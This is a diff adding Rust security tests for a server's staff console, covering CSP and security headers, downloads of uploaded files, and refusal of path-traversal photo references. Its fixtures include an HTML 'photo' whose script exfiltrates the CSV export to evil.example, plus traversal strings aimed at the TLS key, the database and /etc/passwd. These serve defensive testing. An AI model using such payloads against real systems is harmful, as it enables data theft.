@@ -879,3 +879,483 @@ async fn issue_5_console_access_by_role() {
     assert_eq!(s, StatusCode::SEE_OTHER);
     assert_eq!(h["location"], "/console/login");
 }
+
+// ------------------------------------------------------------------ issue 10
+
+mod common;
+
+use common::photos::{self, console_get, console_session};
+use common::{Harness, leader_of, members_of};
+
+/// The headers every console response carries (issue 10).
+fn assert_security_headers(what: &str, h: &axum::http::HeaderMap) {
+    let get = |k: &str| {
+        h.get(k)
+            .unwrap_or_else(|| panic!("{what}: no {k} header in {h:?}"))
+            .to_str()
+            .unwrap()
+            .to_string()
+    };
+    let csp = get("content-security-policy");
+    assert!(
+        csp == sanjin_server::console::CONTENT_SECURITY_POLICY
+            || csp == sanjin_server::console::MEDIA_CSP,
+        "{what}: {csp}"
+    );
+    for directive in [
+        "default-src 'none'",
+        "frame-ancestors 'none'",
+        "base-uri 'none'",
+        "form-action 'self'",
+    ] {
+        assert!(csp.contains(directive), "{what}: {csp}");
+    }
+    assert!(!csp.contains("unsafe"), "{what}: {csp}");
+    assert_eq!(get("x-content-type-options"), "nosniff", "{what}");
+    assert_eq!(get("x-frame-options"), "DENY", "{what}");
+    assert_eq!(
+        get("strict-transport-security"),
+        "max-age=31536000",
+        "{what}"
+    );
+    assert_eq!(get("referrer-policy"), "no-referrer", "{what}");
+}
+
+#[tokio::test]
+async fn issue10_text_html_photo_original_is_served_as_an_attachment() {
+    let h = Harness::live().await;
+    // A "photo" that is an HTML page with a script: on the console's origin it would act with
+    // the signed-in staff member's session.
+    let page = b"<!doctype html><html><body><script>fetch('/console/export/file?format=csv').then(r => r.blob()).then(b => navigator.sendBeacon('https://evil.example/', b))</script></body></html>".to_vec();
+    let member = members_of("group-01")[0].clone();
+    let dev = h.device(&member).await;
+    let hash = photos::upload(&h, &dev, &page).await;
+    // The record claiming it is text/html (its thumbnail HTML too), placed by an import: data
+    // from before the checks on a push.
+    let element =
+        json!({"hash": hash, "caption": "现场照片", "mime": "text/html", "bytes": page.len()});
+    let doc = photos::visit_with_raw_photos(
+        "group-01",
+        &member,
+        &[(hash.clone(), element, Some(page.clone()))],
+    );
+    let id = doc.id().to_string();
+    photos::place(&h, vec![doc]).await;
+    for who in ["office-01".to_string(), leader_of("group-01")] {
+        let cookie = console_session(&h, &who).await;
+        let record = console_get(&h, &format!("/console/records/{id}"), &cookie).await;
+        assert_eq!(record.status, StatusCode::OK, "{who}");
+        assert!(
+            String::from_utf8_lossy(&record.body).contains("class=\"original\""),
+            "{who}: the original is held for this reader"
+        );
+        for part in ["", "/thumb"] {
+            let r = console_get(
+                &h,
+                &format!("/console/records/{id}/photos/{hash}{part}"),
+                &cookie,
+            )
+            .await;
+            let what = format!("{who} {part}");
+            assert_eq!(r.status, StatusCode::OK, "{what}");
+            assert_eq!(
+                r.headers["content-type"], "application/octet-stream",
+                "{what}: never the type the record claims"
+            );
+            let disposition = r.headers["content-disposition"].to_str().unwrap();
+            assert!(
+                disposition.starts_with("attachment;"),
+                "{what}: {disposition}"
+            );
+            assert!(disposition.contains(".bin"), "{what}: {disposition}");
+            assert_security_headers(&what, &r.headers);
+            assert!(
+                r.headers["content-security-policy"]
+                    .to_str()
+                    .unwrap()
+                    .ends_with("sandbox"),
+                "{what}"
+            );
+            assert_eq!(&r.body[..], &page[..], "{what}: the bytes, as a download");
+        }
+    }
+    // The device route too: opaque bytes, a download, never sniffed.
+    let r = common::photos::put_blob(&h, &dev, &hash, 0, 0, b"").await;
+    assert_eq!(r.json()["state"], "complete");
+    let r = h
+        .get(
+            &format!("/v1/records/{id}/blobs/{hash}"),
+            Some(&dev.bearer()),
+        )
+        .await;
+    assert_eq!(r.status, StatusCode::OK);
+    assert_eq!(r.headers["content-type"], "application/octet-stream");
+    assert_eq!(r.headers["x-content-type-options"], "nosniff");
+    assert!(
+        r.headers["content-disposition"]
+            .to_str()
+            .unwrap()
+            .starts_with("attachment")
+    );
+}
+
+/// Percent-encodes a path segment (slashes included).
+fn segment(s: &str) -> String {
+    s.bytes()
+        .map(|b| match b {
+            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
+                (b as char).to_string()
+            }
+            b => format!("%{b:02X}"),
+        })
+        .collect()
+}
+
+#[tokio::test]
+async fn issue10_path_like_hash_is_refused_and_never_reads_outside_blobs() {
+    let h = Harness::live().await;
+    let data = h.dir.path().join("data");
+    // The server's TLS private key (self-signed mode) and its database: what the attack read.
+    let key_path = data.join("tls").join("key.pem");
+    let key = std::fs::read_to_string(&key_path).unwrap();
+    assert!(key.contains("PRIVATE KEY"));
+    let hostile = [
+        key_path.to_str().unwrap().to_string(),
+        "./../tls/key.pem".to_string(),
+        "./../sanjin.sqlite".to_string(),
+        "../../../../../../../etc/passwd".to_string(),
+        format!("{}/../../tls/key.pem", "a".repeat(40)),
+        "/etc/ssl/private/ssl-cert-snakeoil.key".to_string(),
+    ];
+    let member = members_of("group-01")[0].clone();
+    let dev = h.device(&member).await;
+    // One genuine photo, uploaded by the group, beside the hostile references.
+    let good = photos::photo(201);
+    photos::upload(&h, &dev, &good.original).await;
+    let mut refs: Vec<(String, serde_json::Value, Option<Vec<u8>>)> = hostile
+        .iter()
+        .map(|p| {
+            (
+                p.clone(),
+                json!({"hash": p, "mime": "image/jpeg", "caption": "路径"}),
+                Some(good.thumbnail.clone()),
+            )
+        })
+        .collect();
+    refs.push((
+        good.hash.clone(),
+        serde_json::to_value(good.reference("真照片")).unwrap(),
+        Some(good.thumbnail.clone()),
+    ));
+    let doc = photos::visit_with_raw_photos("group-01", &member, &refs);
+    let id = doc.id().to_string();
+    photos::place(&h, vec![doc]).await;
+
+    let staff = console_session(&h, "office-01").await;
+    let page = console_get(&h, &format!("/console/records/{id}"), &staff).await;
+    assert_eq!(page.status, StatusCode::OK);
+    let html = String::from_utf8_lossy(&page.body).to_string();
+    assert_eq!(
+        html.matches("照片引用无效").count(),
+        hostile.len(),
+        "each hostile reference is shown as invalid"
+    );
+    assert_eq!(
+        html.matches("class=\"original\"").count(),
+        1,
+        "only the real photo links"
+    );
+    for p in &hostile {
+        assert!(!html.contains(&format!("/photos/{}", segment(p))), "{p}");
+    }
+    let secrets = |body: &[u8]| {
+        let t = String::from_utf8_lossy(body);
+        t.contains("PRIVATE KEY") || t.contains("SQLite format") || t.contains("root:")
+    };
+    for p in &hostile {
+        for part in ["", "/thumb"] {
+            let path = format!("/console/records/{id}/photos/{}{part}", segment(p));
+            let r = console_get(&h, &path, &staff).await;
+            assert_eq!(r.status, StatusCode::NOT_FOUND, "{path}");
+            assert!(!secrets(&r.body), "{path}");
+            assert_security_headers(&path, &r.headers);
+        }
+        let path = format!("/v1/records/{id}/blobs/{}", segment(p));
+        let r = h.get(&path, Some(&dev.bearer())).await;
+        assert_eq!(
+            (r.status, r.error()),
+            (StatusCode::BAD_REQUEST, "bad_message".into()),
+            "{path}"
+        );
+        assert!(!secrets(&r.body), "{path}");
+        let r = h
+            .get(&format!("/v1/blobs/{}", segment(p)), Some(&dev.bearer()))
+            .await;
+        assert_eq!(r.status, StatusCode::BAD_REQUEST, "{p}");
+    }
+    // Unencoded, the path is no console page at all.
+    let r = console_get(
+        &h,
+        &format!("/console/records/{id}/photos/{}", key_path.display()),
+        &staff,
+    )
+    .await;
+    assert_eq!(r.status, StatusCode::NOT_FOUND);
+    assert!(!secrets(&r.body));
+    assert_security_headers("an unknown console path", &r.headers);
+    // The genuine photo still opens.
+    let r = console_get(
+        &h,
+        &format!("/console/records/{id}/photos/{}", good.hash),
+        &staff,
+    )
+    .await;
+    assert_eq!(r.status, StatusCode::OK);
+    assert_eq!(r.headers["content-type"], "image/jpeg");
+    assert_eq!(&r.body[..], &good.original[..]);
+}
+
+#[tokio::test]
+async fn issue10_every_console_response_carries_the_security_headers() {
+    let h = Harness::live().await;
+    let member = members_of("group-01")[0].clone();
+    let dev = h.device(&member).await;
+    let p = photos::photo(301);
+    photos::upload(&h, &dev, &p.original).await;
+    let doc = photos::visit_with_raw_photos(
+        "group-01",
+        &member,
+        &[(
+            p.hash.clone(),
+            serde_json::to_value(p.reference("座谈")).unwrap(),
+            Some(p.thumbnail.clone()),
+        )],
+    );
+    let id = doc.id().to_string();
+    let other = photos::visit_with_raw_photos("group-02", &members_of("group-02")[0], &[]);
+    let other_id = other.id().to_string();
+    photos::place(&h, vec![doc, other]).await;
+    let staff = console_session(&h, "office-01").await;
+    let leader = console_session(&h, &leader_of("group-01")).await;
+    let form = |path: &str, body: String, cookie: Option<&str>| {
+        let mut b = Request::post(path).header("content-type", "application/x-www-form-urlencoded");
+        if let Some(c) = cookie {
+            b = b.header("cookie", c);
+        }
+        b.body(Body::from(body)).unwrap()
+    };
+    let page = console_get(&h, &format!("/console/records/{id}"), &staff).await;
+    let csrf = String::from_utf8_lossy(&page.body)
+        .split("name=\"csrf\" value=\"")
+        .nth(1)
+        .unwrap()
+        .split('"')
+        .next()
+        .unwrap()
+        .to_string();
+    let mut seen = Vec::new();
+    let mut check = |what: &str, r: common::Reply, status: StatusCode| {
+        assert_eq!(r.status, status, "{what}");
+        assert_security_headers(what, &r.headers);
+        seen.push(status.as_u16());
+    };
+    // Signed out.
+    for (path, status) in [
+        ("/console", StatusCode::SEE_OTHER),
+        ("/console/", StatusCode::SEE_OTHER),
+        ("/console/login", StatusCode::OK),
+        ("/console/dashboard", StatusCode::SEE_OTHER),
+        ("/console/style.css", StatusCode::OK),
+        ("/console/no-such-page", StatusCode::NOT_FOUND),
+    ] {
+        check(path, h.get(path, None).await, status);
+    }
+    let css = h.get("/console/style.css", None).await;
+    assert!(
+        css.headers["content-type"]
+            .to_str()
+            .unwrap()
+            .starts_with("text/css")
+    );
+    check(
+        "a wrong password",
+        h.call(form(
+            "/console/login",
+            "account=office-01&password=wrong-pass".into(),
+            None,
+        ))
+        .await,
+        StatusCode::UNAUTHORIZED,
+    );
+    check(
+        "an empty sign-in",
+        h.call(form("/console/login", String::new(), None)).await,
+        StatusCode::BAD_REQUEST,
+    );
+    check(
+        "a POST to a page",
+        h.call(form("/console/dashboard", String::new(), None))
+            .await,
+        StatusCode::METHOD_NOT_ALLOWED,
+    );
+    // Signed in.
+    for (path, cookie, status) in [
+        (
+            "/console/dashboard?q=2025-2".to_string(),
+            &staff,
+            StatusCode::OK,
+        ),
+        (
+            "/console/dashboard?q=nonsense".to_string(),
+            &staff,
+            StatusCode::BAD_REQUEST,
+        ),
+        (
+            "/console/records?kind=visit".to_string(),
+            &staff,
+            StatusCode::OK,
+        ),
+        (format!("/console/records/{id}"), &staff, StatusCode::OK),
+        (
+            "/console/records/no-such-record".to_string(),
+            &staff,
+            StatusCode::NOT_FOUND,
+        ),
+        (
+            format!("/console/records/{other_id}"),
+            &leader,
+            StatusCode::FORBIDDEN,
+        ),
+        (
+            format!("/console/records/{id}/photos/{}/thumb", p.hash),
+            &staff,
+            StatusCode::OK,
+        ),
+        (
+            format!("/console/records/{id}/photos/{}", p.hash),
+            &leader,
+            StatusCode::OK,
+        ),
+        (
+            format!("/console/records/{id}/photos/{}", "0".repeat(64)),
+            &staff,
+            StatusCode::NOT_FOUND,
+        ),
+        (
+            format!("/console/records/{id}/photos/not-a-hash"),
+            &staff,
+            StatusCode::NOT_FOUND,
+        ),
+        ("/console/export".to_string(), &leader, StatusCode::OK),
+        (
+            "/console/export/file?from=2025-01-01&to=2025-12-31&format=csv".to_string(),
+            &leader,
+            StatusCode::OK,
+        ),
+        (
+            "/console/export/file?from=2025-12-31&to=2025-01-01".to_string(),
+            &staff,
+            StatusCode::BAD_REQUEST,
+        ),
+    ] {
+        check(&path, console_get(&h, &path, cookie).await, status);
+    }
+    check(
+        "a resolve without its token",
+        h.call(form(
+            &format!("/console/records/{id}/resolve"),
+            "field=title".into(),
+            Some(&staff),
+        ))
+        .await,
+        StatusCode::FORBIDDEN,
+    );
+    check(
+        "a resolve with nothing to resolve",
+        h.call(form(
+            &format!("/console/records/{id}/resolve"),
+            format!("csrf={csrf}&field=title"),
+            Some(&staff),
+        ))
+        .await,
+        StatusCode::BAD_REQUEST,
+    );
+    check(
+        "sign-out",
+        h.call(form(
+            "/console/logout",
+            format!("csrf={csrf}"),
+            Some(&staff),
+        ))
+        .await,
+        StatusCode::SEE_OTHER,
+    );
+    seen.sort_unstable();
+    seen.dedup();
+    assert_eq!(
+        seen,
+        vec![200, 303, 400, 401, 403, 404, 405],
+        "every kind of answer was checked"
+    );
+}
+
+#[test]
+fn issue10_chromium_tests_fail_on_csp_violations() {
+    let tmp = tempfile::tempdir().unwrap();
+    {
+        let mut data = ServerData::open(tmp.path()).unwrap();
+        data.add_staff(STAFF, "王秘书", Role::Staff).unwrap();
+        sanjin_server::console::set_password(&mut data, STAFF, STAFF_PASSWORD).unwrap();
+    }
+    let rt = tokio::runtime::Builder::new_multi_thread()
+        .worker_threads(2)
+        .enable_all()
+        .build()
+        .unwrap();
+    let config = Config::new(
+        tmp.path(),
+        "127.0.0.1:0".parse().unwrap(),
+        TlsMode::SelfSigned { hostnames: vec![] },
+    );
+    let running = rt.block_on(spawn(config)).unwrap();
+    let base = running.url();
+    let downloads = tempfile::tempdir().unwrap();
+    let mut c = Chromium::start(downloads.path());
+    c.goto(&format!("{base}/console/login"));
+    c.wait("document.getElementById('signin')");
+    // The served stylesheet applies (no inline style is needed or allowed).
+    assert_eq!(
+        c.eval("getComputedStyle(document.querySelector('header')).backgroundColor"),
+        json!("rgb(163, 25, 31)")
+    );
+    // Signing in works under the policy (and `Referrer-Policy: no-referrer`).
+    c.eval(&format!(
+        "document.getElementById('account').value = '{STAFF}'; document.getElementById('password').value = '{STAFF_PASSWORD}'; document.getElementById('signin').click(); true"
+    ));
+    c.wait("location.pathname === '/console/dashboard' && document.getElementById('stats')");
+    c.assert_no_csp_violations("on the sign-in and dashboard pages");
+    // What a page that broke the policy would do is caught: an inline style, a foreign image,
+    // a script's request, an inline script.
+    c.eval(
+        "document.body.insertAdjacentHTML('beforeend', '<div id=\"x\" style=\"color:red\">x</div><img src=\"https://example.invalid/x.png\">'); true",
+    );
+    assert_eq!(
+        c.eval("fetch('/console/dashboard').then(() => 'fetched', () => 'refused')"),
+        json!("refused")
+    );
+    c.eval("const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.body.appendChild(s); true");
+    assert_eq!(
+        c.eval("window.ran === undefined"),
+        json!(true),
+        "no inline script runs"
+    );
+    let v = c.take_violations();
+    for directive in ["style-src", "img-src", "connect-src", "script-src"] {
+        assert!(
+            v.iter().any(|x| x.contains(directive)),
+            "a {directive} violation is reported: {v:#?}"
+        );
+    }
+    drop(c);
+    rt.block_on(running.shutdown()).unwrap();
+}
